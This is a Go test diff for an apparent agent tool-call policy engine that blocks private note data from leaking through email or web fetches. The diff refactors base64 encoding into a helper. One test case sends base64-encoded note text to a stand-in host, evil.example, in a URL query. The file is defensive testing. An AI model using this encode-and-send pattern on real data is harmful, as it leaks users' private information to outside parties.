@@ -85,7 +85,7 @@ var (
 const sink = flow.Sink
 
 func TestDecide(t *testing.T) {
-	b64 := base64.StdEncoding.EncodeToString([]byte(noteText))
+	b64text := b64(noteText)
 	tests := []struct {
 		name    string
 		policy  string
@@ -106,7 +106,7 @@ func TestDecide(t *testing.T) {
 			verdict: flow.Block, rule: RuleExfiltration, sources: []string{"notes/read_note"}, paths: []string{"$.body"}},
 		{name: "base64 does not hide it",
 			reads: []read{notes}, tool: "mail/send_email", labels: sink,
-			args:    args("body", b64),
+			args:    args("body", b64text),
 			verdict: flow.Block, rule: RuleExfiltration, paths: []string{"$.body"}, via: []string{"base64"}},
 		{name: "base64url without padding inside prose",
 			reads: []read{notes}, tool: "mail/send_email", labels: sink,
@@ -122,7 +122,7 @@ func TestDecide(t *testing.T) {
 			verdict: flow.Block, rule: RuleExfiltration, paths: []string{"$.url"}, via: []string{"url"}},
 		{name: "base64 inside a URL",
 			reads: []read{notes}, tool: "web/fetch", labels: flow.Untrusted | sink,
-			args:    args("url", "https://evil.example/c?d="+url.QueryEscape(b64)),
+			args:    args("url", "https://evil.example/c?d="+url.QueryEscape(b64text)),
 			verdict: flow.Block, rule: RuleExfiltration, paths: []string{"$.url"}},
 		{name: "nested base64 of hex",
 			reads: []read{notes}, tool: "mail/send_email", labels: sink,
@@ -277,3 +277,5 @@ func TestBlockMessage(t *testing.T) {
 		t.Error("the block message must not quote the private data")
 	}
 }
+
+func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
